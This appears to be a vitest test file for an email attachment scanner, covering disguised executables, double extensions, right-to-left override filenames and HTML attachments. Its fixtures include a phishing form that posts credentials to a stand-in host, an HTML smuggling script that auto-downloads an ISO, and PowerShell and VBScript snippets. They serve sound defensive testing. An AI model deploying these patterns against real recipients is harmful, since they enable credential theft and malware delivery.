import { describe, expect, it } from 'vitest';
import { hashBytes } from '../../src/engine/attachments/hashes.ts';
import {
  attachment,
  docx,
  isoImage,
  latin1Bytes,
  lnkHeader,
  oneNote,
  pdf,
  peStub,
  png,
  runAttachments,
  text,
} from './attachment-helpers.ts';

describe('hashBytes', () => {
  it('gives the well-known digests of "abc"', () => {
    expect(hashBytes(text('abc'))).toEqual({
      md5: '900150983cd24fb0d6963f7d28e17f72',
      sha1: 'a9993e364706816aba3e25717850c26c9cd0d89d',
      sha256: 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad',
    });
  });
});

describe('the attachment report', () => {
  it('carries hashes, size, declared and detected type and a verdict', async () => {
    const content = png();
    const { reports, ids } = await runAttachments(attachment('logo.png', content, 'image/png'));
    expect(ids).toEqual([]);
    expect(reports).toEqual([
      {
        filename: 'logo.png',
        declared_type: 'image/png',
        detected_type: 'image/png',
        size_bytes: content.length,
        ...hashBytes(content),
        verdict: 'clean',
        findings: [],
      },
    ]);
  });
});

describe('when a file is not what its name says', () => {
  it('reports a PE program named .pdf as a type mismatch and an executable', async () => {
    const { ids, reports, findings } = await runAttachments(
      attachment('statement.pdf', peStub(), 'application/pdf'),
    );
    expect(ids).toEqual(['attachments.executable', 'attachments.type_mismatch']);
    expect(reports[0]?.verdict).toBe('malicious');
    expect(reports[0]?.detected_type).toBe('application/x-msdownload');
    const mismatch = findings.find((f) => f.id === 'attachments.type_mismatch');
    expect(mismatch?.evidence).toContain(
      'statement.pdf: declared .pdf / application/pdf, content is exe',
    );
  });

  it('reports HTML sent as a PDF', async () => {
    const { ids } = await runAttachments(
      attachment('invoice.pdf', text('<!DOCTYPE html><html><body>Hi</body></html>')),
    );
    expect(ids).toContain('attachments.type_mismatch');
  });

  it('accepts a docx that is a zip and a PNG sent as image/png', async () => {
    const { ids } = await runAttachments(
      attachment(
        'report.docx',
        docx(),
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      ),
      attachment('photo.png', png(), 'image/png'),
    );
    expect(ids).toEqual([]);
  });
});

describe('when the name hides the real extension', () => {
  it('reports invoice.pdf.exe as a double extension and an executable', async () => {
    const { ids, findings } = await runAttachments(attachment('invoice.pdf.exe', peStub()));
    expect(ids).toEqual(['attachments.double_extension', 'attachments.executable']);
    expect(
      findings.every((f) => f.severity === 'critical' && f.evidence === 'invoice.pdf.exe'),
    ).toBe(true);
  });

  it('sees through padding before the real extension', async () => {
    const { ids } = await runAttachments(
      attachment('scan.pdf                         .js', text('WScript.Echo(1)')),
    );
    expect(ids).toEqual(['attachments.double_extension', 'attachments.script']);
  });

  it('reports a right-to-left override and shows it in the evidence', async () => {
    const { findings } = await runAttachments(attachment('invoice\u202Efdp.exe', peStub()));
    const rtlo = findings.find((f) => f.id === 'attachments.rtlo_filename');
    expect(rtlo?.severity).toBe('critical');
    expect(rtlo?.evidence).toBe('invoice[U+202E]fdp.exe');
  });

  it('does not flag ordinary dotted names', async () => {
    const { ids } = await runAttachments(
      attachment('report.v2.final.pdf', pdf(), 'application/pdf'),
    );
    expect(ids).toEqual([]);
  });
});

describe('dangerous kinds', () => {
  it.each([
    ['payload.exe', peStub(), 'attachments.executable'],
    ['run.vbs', text('Set sh = CreateObject("WScript.Shell")'), 'attachments.script'],
    ['update.ps1', text('Invoke-WebRequest http://x'), 'attachments.script'],
    ['page.hta', text('<hta:application id="x"/>'), 'attachments.script'],
    ['setup.msi', peStub(), 'attachments.executable'],
    ['Document.lnk', lnkHeader(), 'attachments.shortcut'],
    ['Delivery.iso', isoImage(), 'attachments.disk_image'],
    ['Notes.one', oneNote(), 'attachments.onenote'],
    [
      'view.svg',
      text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      'attachments.html',
    ],
  ])('reports %s', async (name, content, id) => {
    const { ids } = await runAttachments(attachment(name, content));
    expect(ids).toContain(id);
  });

  it('recognises a shortcut, an ISO and OneNote by content under a harmless name', async () => {
    const { ids } = await runAttachments(
      attachment('a.txt', lnkHeader()),
      attachment('b.dat', isoImage()),
      attachment('c.bin', oneNote()),
    );
    expect(ids).toEqual(
      expect.arrayContaining([
        'attachments.shortcut',
        'attachments.disk_image',
        'attachments.onenote',
      ]),
    );
  });

  it('makes executable, script and shortcut findings critical', async () => {
    const { findings } = await runAttachments(
      attachment('a.exe', peStub()),
      attachment('b.js', text('var x = 1;')),
      attachment('c.lnk', lnkHeader()),
    );
    expect(findings.map((f) => f.severity)).toEqual(['critical', 'critical', 'critical']);
  });

  it('judges a nameless attachment by its MIME type and content', async () => {
    const { ids } = await runAttachments(
      attachment(null, text('<html><body>hi</body></html>'), 'text/html'),
    );
    expect(ids).toEqual(['attachments.html']);
  });
});

describe('HTML attachments', () => {
  it('reports a local password form as a credential form', async () => {
    const page =
      '<html><body><form action="https://collect.example/p" method="post">' +
      '<input type="email" name="u"><input type="password" name="p"></form></body></html>';
    const { ids, reports } = await runAttachments(
      attachment('Secure_Message.html', text(page), 'text/html'),
    );
    expect(ids).toEqual(['attachments.html', 'attachments.html_credential_form']);
    expect(['phishing', 'malicious']).toContain(reports[0]?.verdict);
  });

  it('reports HTML smuggling', async () => {
    const page =
      '<html><script>const b = atob("TVqQAAMAAAAEAAAA"); const u = new Uint8Array(b.length);' +
      'const blob = new Blob([u]); const a = document.createElement("a"); a.href = URL.createObjectURL(blob);' +
      'a.download = "invoice.iso"; a.click();</script></html>';
    const { ids } = await runAttachments(attachment('invoice.htm', text(page)));
    expect(ids).toContain('attachments.html_smuggling');
  });
});

describe('benign attachments', () => {
  it('leave a plain PDF, a PNG, a docx and a text file clean', async () => {
    const { ids, reports } = await runAttachments(
      attachment('report.pdf', pdf(), 'application/pdf'),
      attachment('chart.png', png(), 'image/png'),
      attachment('letter.docx', docx()),
      attachment('notes.txt', text('Meeting at 10.\n'), 'text/plain'),
    );
    expect(ids).toEqual([]);
    expect(reports.map((r) => r.verdict)).toEqual(['clean', 'clean', 'clean', 'clean']);
  });

  it('reports nothing for empty content', async () => {
    const { ids } = await runAttachments(attachment('empty.txt', new Uint8Array(0), 'text/plain'));
    expect(ids).toEqual([]);
  });

  it('keeps binary noise named .bin quiet', async () => {
    const { ids } = await runAttachments(
      attachment('blob.bin', latin1Bytes('\x01\x02\x03\x04 noise')),
    );
    expect(ids).toEqual([]);
  });
});
